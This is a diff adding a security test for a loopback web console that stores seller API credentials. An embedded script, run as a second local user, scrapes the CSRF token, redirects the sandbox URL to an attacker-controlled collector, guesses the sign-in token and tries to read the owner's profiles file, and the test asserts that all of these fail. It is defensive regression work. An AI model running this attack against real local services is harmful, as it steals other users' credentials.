@@ -247,3 +247,92 @@ def test_terminal_escapes_are_not_printed_raw(fresh_sandbox: Any, config_path: P
     p = run_cli("token", "--profile", "shop", "--config", str(config_path))
     assert p.returncode != 0 and "\x1b" not in p.stdout + p.stderr and "\x07" not in p.stderr
     assert "bad scope" in p.stderr
+
+
+# ---- another local user ------------------------------------------------------------------------
+OTHER_UID = 65534  # "nobody": a local account that is not the console's owner
+
+# The other user's side, stdlib only (it runs under /usr/bin/python3 as that uid): read every page
+# that shows a profile, try to move the sandbox to its own listener and run Test Connection, guess
+# the sign-in token in the URL, and open the profiles file directly. Prints what it got as JSON.
+_ATTACK = r"""
+import http.client, json, re, sys, urllib.parse
+base, collector, cfg = sys.argv[1], sys.argv[2], sys.argv[3]
+u = urllib.parse.urlsplit(base)
+out = {"uid": __import__("os").getuid(), "pages": {}, "bodies": ""}
+def req(method, path, body=None):
+    c = http.client.HTTPConnection(u.hostname, u.port, timeout=10)
+    headers = {"Content-Type": "application/x-www-form-urlencoded"} if body is not None else {}
+    c.request(method, path, body=urllib.parse.urlencode(body) if body is not None else None, headers=headers)
+    r = c.getresponse()
+    text = r.read().decode("utf-8", "replace")
+    out["pages"][method + " " + path] = r.status
+    out["bodies"] += text
+    return text
+for path in ("/", "/profiles", "/profiles/seller", "/profiles/seller/test", "/profiles/seller/report.json"):
+    req("GET", path)
+page = req("GET", "/profiles/seller")
+m = re.search(r'name="csrf_token" value="([^"]+)"', page)
+form = {"csrf_token": m.group(1) if m else "", "name": "seller", "api": "spapi", "sandbox": collector}
+req("POST", "/profiles/seller", form)
+req("POST", "/profiles/seller/test", {"csrf_token": form["csrf_token"]})
+req("GET", "/profiles?token=guess-0123456789abcdef0123")
+try:
+    out["file"] = open(cfg).read()
+except OSError as exc:
+    out["file_error"] = type(exc).__name__
+print(json.dumps(out))
+"""
+
+
+def _as_other_user(console_url: str, collector_url: str, cfg: Path) -> dict[str, Any]:
+    import json
+
+    def drop() -> None:
+        os.setgroups([])
+        os.setgid(OTHER_UID)
+        os.setuid(OTHER_UID)
+
+    p = subprocess.run(
+        ["/usr/bin/python3", "-I", "-c", _ATTACK, console_url, collector_url, str(cfg)],
+        capture_output=True, text=True, timeout=60, preexec_fn=drop, cwd="/",
+        env={"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"},
+    )
+    assert p.returncode == 0, p.stderr
+    doc: dict[str, Any] = json.loads(p.stdout)
+    assert doc["uid"] == OTHER_UID
+    return doc
+
+
+@pytest.mark.skipif(
+    not hasattr(os, "geteuid") or os.geteuid() != 0 or not Path("/usr/bin/python3").exists(),
+    reason="needs root to run a second uid (CI runs as root); the same requests without it are "
+    "test_a_loopback_console_asks_for_a_token_unless_opted_out",
+)
+def test_another_local_user_cannot_take_the_owners_secrets(
+    config_path: Path, fresh_sandbox: Any, collector: Listener
+) -> None:
+    """Finding 1's attack, replayed by a real second uid against the owner's loopback console."""
+    from amzauth.console import run_console
+    from tests.console.conftest import SECRETS, SP_REFRESH, spapi_profile
+
+    write_profiles(config_path, {"seller": spapi_profile(fresh_sandbox.url, refresh_token=SP_REFRESH)})
+    before = config_path.read_text()
+    fresh_sandbox.clear_requests()
+    with run_console(config_path) as h:  # the default: no password given, no opt-out
+        got = _as_other_user(h.url, collector.url, config_path)
+    for secret in SECRETS:
+        assert secret not in got["bodies"] and secret not in got.get("file", "")
+    assert "file_error" in got  # the profiles file itself is private to the owner
+    pages = got["pages"]
+    assert pages["GET /profiles"] == 303 and pages["GET /profiles/seller"] == 303
+    assert pages["GET /profiles/seller/report.json"] in (303, 401, 403)
+    assert all(code in (303, 401, 403, 429) for code in pages.values()), pages
+    assert config_path.read_text() == before  # nothing saved
+    assert collector.received == b""  # nothing sent to the other user's listener
+    assert fresh_sandbox.requests() == []  # and no token request made on its behalf
+    # Control: the same uid does reach a console started with the explicit opt-out, so the refusals
+    # above come from the sign-in, not from the harness failing to connect.
+    with run_console(config_path, no_auth=True) as h:
+        open_doc = _as_other_user(h.url, collector.url, config_path)
+    assert open_doc["pages"]["GET /profiles"] == 200
